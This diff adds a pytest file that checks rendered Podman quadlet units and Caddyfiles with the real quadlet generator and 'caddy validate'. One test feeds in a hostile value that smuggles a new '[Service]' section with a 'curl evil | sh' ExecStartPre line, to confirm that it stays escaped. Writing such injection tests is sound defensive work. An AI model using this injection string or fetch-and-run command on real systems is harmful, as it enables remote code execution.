@@ -1,0 +1,147 @@
+"""Every release the suite builds goes through the programs that really read it.
+
+Podman 5's quadlet generator (dry run) must convert every unit without a ``converting`` error and produce
+every expected service with its dependencies; ``caddy validate`` must accept the Caddyfile. Both come from
+``scripts/install-tools``; without them these tests skip locally and fail in CI.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from leger.releases import quadlet
+from leger.releases.rendering import render
+from leger.releases.snapshot import example_snapshot
+from leger.releases.validation import QUADLET_SUFFIXES
+from tests.releases.conftest import changed
+
+REPO = Path(__file__).resolve().parents[2]
+QUADLET = REPO / ".cache" / "tools" / "podman" / "usr" / "libexec" / "podman" / "quadlet"
+RELEASES = [(kind, exposure) for kind in ("minimal", "full") for exposure in ("port", "path", "subdomain")]
+
+pytestmark = pytest.mark.slow
+
+
+def require(tool: str | None, what: str) -> str:
+    if tool:
+        return tool
+    message = f"{what} is not installed; run scripts/install-tools"
+    if os.environ.get("CI"):
+        pytest.fail(message)
+    pytest.skip(message)
+
+
+def quadlet_binary() -> str:
+    return require(str(QUADLET) if QUADLET.is_file() and os.access(QUADLET, os.X_OK) else None, "Podman's quadlet")
+
+
+def caddy_binary() -> str:
+    return require(shutil.which("caddy"), "caddy")
+
+
+def write(files: dict[str, str], directory: Path) -> Path:
+    for path, text in files.items():
+        target = directory / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(text, encoding="utf-8")
+    return directory
+
+
+def generate(directory: Path) -> tuple[dict[str, str], list[str]]:
+    """The units the generator writes (name → text) and its `converting` errors."""
+    result = subprocess.run(
+        [quadlet_binary(), "-dryrun", "-user"],
+        env={**os.environ, "QUADLET_UNIT_DIRS": str(directory)},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    units: dict[str, str] = {}
+    name = None
+    for line in result.stdout.splitlines():
+        if line.startswith("---") and line.endswith("---"):
+            name = line.strip("-")
+            units[name] = ""
+        elif name is not None:
+            units[name] += line + "\n"
+    return units, [line for line in result.stderr.splitlines() if "converting" in line]
+
+
+def words(unit: quadlet.UnitFile, key: str) -> set[str]:
+    return {word for value in unit.values("Unit", key) for word in value.split()}
+
+
+@pytest.mark.parametrize(("kind", "exposure"), RELEASES)
+def test_podmans_quadlet_generator_accepts_every_release(tmp_path: Path, kind: str, exposure: str) -> None:
+    files = render(example_snapshot(kind, exposure))
+    units, errors = generate(write(files, tmp_path))
+    assert errors == []
+    expected = {quadlet.unit_name(path) for path in files if path.endswith(QUADLET_SUFFIXES)}
+    assert set(units) == expected
+    for path in (p for p in files if p.endswith(".container")):
+        generated = quadlet.parse(units[quadlet.unit_name(path)])
+        source = quadlet.parse(files[path])
+        # What we asked for survives, and every unit we depend on is one the generator produced.
+        assert words(source, "Requires") <= words(generated, "Requires"), path
+        assert words(source, "After") <= words(generated, "After"), path
+        assert words(generated, "Requires") - {"podman-user-wait-network-online.service"} <= set(units), path
+        assert "llm-network.service" in words(generated, "Requires"), path
+    openwebui = quadlet.parse(units["openwebui.service"])
+    (exec_start,) = openwebui.values("Service", "ExecStart")
+    assert f"--env-file {tmp_path}/openwebui.env" in exec_start
+    assert "--secret litellm-master-key,type=env,target=OPENAI_API_KEY" in exec_start
+    assert {"openwebui-postgres.service", "openwebui-redis.service", "litellm.service"} <= words(openwebui, "Requires")
+
+
+@pytest.mark.parametrize(("kind", "exposure"), RELEASES)
+def test_caddy_validates_every_caddyfile(tmp_path: Path, kind: str, exposure: str) -> None:
+    files = render(example_snapshot(kind, exposure))
+    config = write(files, tmp_path) / "Caddyfile"
+    result = subprocess.run(
+        [caddy_binary(), "validate", "--adapter", "caddyfile", "--config", str(config)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+        env={**os.environ, "HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)},
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert "Valid configuration" in result.stdout + result.stderr
+
+
+def test_hostile_values_stay_values_for_the_real_generator(tmp_path: Path) -> None:
+    evil = 'x"\n[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n%h $HOME'
+    snapshot = changed(
+        example_snapshot("minimal"),
+        lambda s: (s["release"].update(name=evil), s["openwebui"].update(WEBUI_NAME=evil)),
+    )
+    units, errors = generate(write(render(snapshot), tmp_path))
+    assert errors == []
+    for name, text in units.items():
+        assert not list(quadlet.parse(text).entries("Service", "ExecStartPre")), name
+    (exec_start,) = quadlet.parse(units["openwebui.service"]).values("Service", "ExecStart")
+    # systemd turns %% back into % and $$ into $ when it runs the command.
+    assert '--env "WEBUI_NAME=x\\"\\n[Service]\\nExecStartPre=' in exec_start
+    assert "%%h $$HOME" in exec_start
+
+
+@pytest.mark.parametrize(
+    ("suffix", "section", "keys"),
+    [
+        (".container", "Container", quadlet.CONTAINER_KEYS),
+        (".network", "Network", quadlet.NETWORK_KEYS),
+        (".volume", "Volume", quadlet.VOLUME_KEYS),
+    ],
+)
+def test_every_key_our_validator_allows_is_one_the_generator_knows(tmp_path: Path, suffix, section, keys) -> None:
+    for key in sorted(keys):
+        image = "Image=docker.io/library/alpine:3.20\n" if suffix == ".container" and key != "Image" else ""
+        (tmp_path / f"k-{key.lower()}{suffix}").write_text(f"[{section}]\n{image}{key}=x\n")
+    _, errors = generate(tmp_path)
+    assert [line for line in errors if "unsupported key" in line] == []
